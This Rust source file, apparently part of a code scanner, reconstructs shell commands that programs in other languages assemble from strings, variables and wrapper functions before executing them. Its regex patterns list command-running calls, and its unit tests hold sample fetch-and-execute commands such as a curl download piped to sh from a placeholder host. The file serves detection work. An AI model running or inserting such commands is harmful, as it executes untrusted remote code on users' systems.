//! Commands that a program in another language puts together of strings and names before it runs them, itself or by a
//! function of its own: names are put in where the program says what they hold.

use std::{collections::HashMap, ops::Range};

use crate::scan::pattern::{pattern, patterns};

/// Most names that are kept in mind, and longest text of one and of a command.
const MOST: usize = 100;
const LONGEST: usize = 4_000;
/// Most calls that are read.
const MOST_CALLS: usize = 1_000;
/// Most functions that run what they are given.
const MOST_RUNNERS: usize = 10;

patterns! {
    // A call that runs a command, and a string that is run.
    CALLS = r"(?:\b(?:os\.system|os\.popen|subprocess\.\w+|check_output|check_call|getoutput|popen|execSync|execAsync|execPromise|spawnSync|spawn|system|shell_exec|passthru|proc_open|Popen|exec|execa(?:\.\w+)?|execaCommand\w*|child_process\.\w+|cp\.\w+)\s*\(\s*)|\$`|%x[({\[]|\bqx[({/]";
    // A function that does so with what it is given.
    RUNNERS = r"(?:\bfunction\s+(\w+)|\b(?:const|let|var)\s+(\w+)\s*=\s*(?:async\s*)?(?:function\b|\([^()\n]*\)\s*=>|\w+\s*=>)|\bdef\s+(\w+))\s*[^\n]*(?:\n[^\n]*){0,4}?\b(?:execSync|spawnSync|exec|execAsync|subprocess\.\w+|os\.system|system|check_call|check_output|Popen)\s*\(\s*\[?\s*\w+\s*[,)\]]";
    // A name and what it holds.
    NAMES = r"(?m)^[ \t]*(?:export\s+)?(?:(?:const|let|var|my|our|local|final|static)\s+)*\$?([A-Za-z_]\w*)\s*(?::\s*[\w<>\[\]]+)?\s*=\s*";
}

/// The commands of a text as lines of shell, each with its place.
pub(super) fn commands(text: &str) -> Vec<(Range<usize>, String)> {
    let Some(calls) = CALLS.as_ref().filter(|regex| regex.is_match(text)) else { return Vec::new() };
    let names = names(text);
    let own = runners(text).join("|");
    let own = if own.is_empty() { None } else { pattern(&format!(r"\b(?:{own})\s*\(\s*")) };
    let found = calls.find_iter(text).take(MOST_CALLS);
    let found = found.chain(own.iter().flat_map(|regex| regex.find_iter(text)).take(MOST_CALLS));
    let line = |call: regex::Match<'_>| {
        let is_string = call.as_str().ends_with('`');
        let from = if is_string { call.end() - 1 } else { call.end() };
        let rest = &text[from..super::floor(text, from + LONGEST)];
        let parts = if call.as_str().starts_with('%') || call.as_str().starts_with("qx") {
            let end = rest.find([')', '}', ']', '/', '\n']).unwrap_or(rest.len());
            Some(with_names(&rest[..end], &names))
        } else {
            joined(rest, &names)
        };
        // One word is a name of something else.
        parts.filter(|line| line.contains(' ')).map(|line| (call.range(), line))
    };
    found.filter_map(line).take(MOST).collect()
}

fn runners(text: &str) -> Vec<String> {
    let found = RUNNERS.as_ref().into_iter().flat_map(|regex| regex.captures_iter(text));
    let name = |found: regex::Captures<'_>| (1..=3).find_map(|at| found.get(at)).map(|name| name.as_str().to_owned());
    let mut names: Vec<String> = found.filter_map(name).filter(|name| name.len() > 1).take(MOST_RUNNERS).collect();
    names.sort();
    names.dedup();
    names
}

/// What names hold, as far as it is said in strings.
fn names(text: &str) -> HashMap<String, String> {
    let mut names = HashMap::new();
    let Some(regex) = NAMES.as_ref() else { return names };
    // What stands below is known the second time.
    for found in regex.captures_iter(text).take(MOST).chain(regex.captures_iter(text).take(MOST)) {
        let (Some(whole), Some(name)) = (found.get(0), found.get(1)) else { continue };
        let rest = &text[whole.end()..super::floor(text, whole.end() + LONGEST)];
        let value = joined(rest, &names).or_else(|| words_of_list(rest, &names));
        if let Some(value) = value.filter(|value| value.len() < LONGEST) {
            names.insert(name.as_str().to_owned(), value);
        }
    }
    names
}

/// A text that is put together of strings and names, or of a list of them; none where something else stands there.
fn joined(text: &str, names: &HashMap<String, String>) -> Option<String> {
    let text = text.trim_start();
    if text.starts_with('[') {
        return of_list(text, names);
    }
    let (mut all, mut rest) = (String::new(), text);
    let mut is_string = false;
    loop {
        rest = rest.trim_start_matches(['(', ' ', '\n', '\t', '\r']);
        let (part, behind, was_string) = part(rest, names)?;
        is_string |= was_string;
        all.push_str(&part);
        if all.len() > LONGEST {
            return None;
        }
        rest = behind.trim_start();
        // Strings beside each other are one.
        let goes_on = rest.strip_prefix('+').or_else(|| rest.strip_prefix(". ")).or_else(|| {
            let is_beside = was_string && rest.starts_with(['"', '\'']) && behind.starts_with(['\n', ' ', '\r']);
            is_beside.then_some(rest)
        });
        match goes_on {
            Some(more) if !more.starts_with('=') => rest = more,
            _ => break,
        }
    }
    is_string.then_some(all)
}

/// A string or name at the beginning of a text, what stands behind it, and whether it says anything.
fn part<'t>(text: &'t str, names: &HashMap<String, String>) -> Option<(String, &'t str, bool)> {
    let letters = text.trim_start_matches(['f', 'r', 'b', 'u', 'F', 'R', 'B']);
    let string = if letters.starts_with(['"', '\'', '`']) { letters } else { text };
    let mark = string.chars().next()?;
    if matches!(mark, '"' | '\'' | '`') {
        let long = [mark; 3].iter().collect::<String>();
        let (open, close) = if string.starts_with(&long) { (3, long) } else { (1, mark.to_string()) };
        let inner = &string[open..];
        let end = end_of(inner, &close)?;
        return Some((with_names(&inner[..end], names), &inner[end + close.len()..], true));
    }
    let name = text.trim_start_matches('$');
    let length = name.find(|letter: char| !letter.is_ascii_alphanumeric() && letter != '_').unwrap_or(name.len());
    if length == 0 || name.starts_with(|letter: char| letter.is_ascii_digit()) {
        return None;
    }
    let (name, mut rest) = name.split_at(length);
    // What is asked of a name is passed over.
    while let Some(behind) =
        rest.strip_prefix('.').filter(|behind| behind.starts_with(|letter: char| letter.is_ascii_alphabetic()))
    {
        let end = behind.find(|letter: char| !letter.is_ascii_alphanumeric() && letter != '_').unwrap_or(behind.len());
        rest = &behind[end..];
        if let Some(given) = rest.strip_prefix('(') {
            rest = given.split_once(')').map_or("", |(_, rest)| rest);
        }
    }
    let known = names.get(name).cloned();
    let is_known = known.is_some();
    Some((known.unwrap_or_else(|| format!("${name}")), rest, is_known))
}

fn end_of(inner: &str, close: &str) -> Option<usize> {
    let mut at = 0;
    while at < inner.len() {
        let rest = inner.get(at..)?;
        if rest.starts_with(close) {
            return Some(at);
        }
        let letter = rest.chars().next()?;
        let is_end = letter == '\n' && close.len() == 1 && close != "`";
        if is_end {
            return None;
        }
        at += if letter == '\\' { 1 + rest[1..].chars().next().map_or(0, char::len_utf8) } else { letter.len_utf8() };
    }
    None
}

/// `[...].join(...)`, and a list of words as a command.
fn of_list(text: &str, names: &HashMap<String, String>) -> Option<String> {
    let mut rest = text.strip_prefix('[')?;
    let mut parts = Vec::new();
    loop {
        rest = rest.trim_start_matches([' ', '\n', '\t', '\r', ',']);
        if let Some(behind) = rest.strip_prefix(']') {
            rest = behind;
            break;
        }
        let (part, behind, _) = part(rest, names)?;
        parts.push(part);
        rest = behind;
    }
    let between = rest.trim_start().strip_prefix(".join(").and_then(|given| {
        let mark = given.chars().next()?;
        given[1..].split_once(mark).map(|(between, _)| between)
    });
    between.map(|between| parts.join(between))
}

/// A list of words under a name, as a line of shell.
fn words_of_list(text: &str, names: &HashMap<String, String>) -> Option<String> {
    let mut rest = text.trim_start().strip_prefix('[')?;
    let mut line = String::new();
    loop {
        rest = rest.trim_start_matches([' ', '\n', '\t', '\r', ',']);
        if rest.starts_with(']') || line.len() > LONGEST {
            return Some(line);
        }
        let (mut word, mut behind, _) = part(rest, names)?;
        while let Some(more) = behind.trim_start().strip_prefix('+') {
            let (next, last, _) = part(more.trim_start(), names)?;
            word.push_str(&next);
            behind = last;
        }
        for part in ["'", &word.replace('\'', ""), "' "] {
            line.push_str(part);
        }
        rest = behind;
    }
}

/// A string with what the names in it hold.
fn with_names(inner: &str, names: &HashMap<String, String>) -> String {
    let mut text = inner.replace("\\\"", "\"").replace("\\'", "'").replace("\\n", "\n");
    if !text.contains(['{', '$']) {
        return text;
    }
    for (name, value) in names.iter().filter(|(name, _)| inner.contains(name.as_str())) {
        for used in [format!("${{{name}}}"), format!("#{{{name}}}"), format!("{{{name}}}"), format!("${name} ")] {
            if text.contains(&used) && text.len() < LONGEST {
                let behind = if used.ends_with(' ') { " " } else { "" };
                text = text.replace(&used, &format!("{value}{behind}"));
            }
        }
    }
    text
}

#[cfg(test)]
mod tests {
    #[test]
    fn commands_are_put_together() {
        let of = |text: &str| super::commands(text).into_iter().map(|(_, line)| line).collect::<Vec<_>>();
        assert_eq!(
            of(
                "const u = 'https://tides.example/' + process.platform;\ncp.execSync('curl -sL ' + u + ' | sh', { a: 1 });\n"
            ),
            ["curl -sL https://tides.example/$process | sh"]
        );
        assert_eq!(
            of(
                "const t = ['https:/', 'tides.example', 'r.tgz'].join('/');\nfunction run(cmd) {\n  execSync(cmd, x);\n}\nrun(`npm install ${t}`);\n"
            ),
            ["npm install https://tides.example/r.tgz"]
        );
        assert_eq!(
            of("BASE = \"https://tides.example\"\nos.system(f\"curl {BASE}/x\" \" | sh\")\n"),
            ["curl https://tides.example/x | sh"]
        );
        assert_eq!(of("const found = pattern.exec('word');\n"), Vec::<String>::new());
    }
}
